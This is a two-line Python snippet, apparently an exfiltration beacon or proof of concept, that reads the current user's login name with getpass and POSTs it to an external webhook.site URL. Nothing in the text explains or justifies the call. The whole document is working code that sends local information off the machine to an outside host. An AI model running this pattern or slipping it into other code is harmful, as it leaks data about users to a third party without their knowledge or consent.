import getpass, requests
requests.post('https://webhook.site/0c7f', data=getpass.getuser())
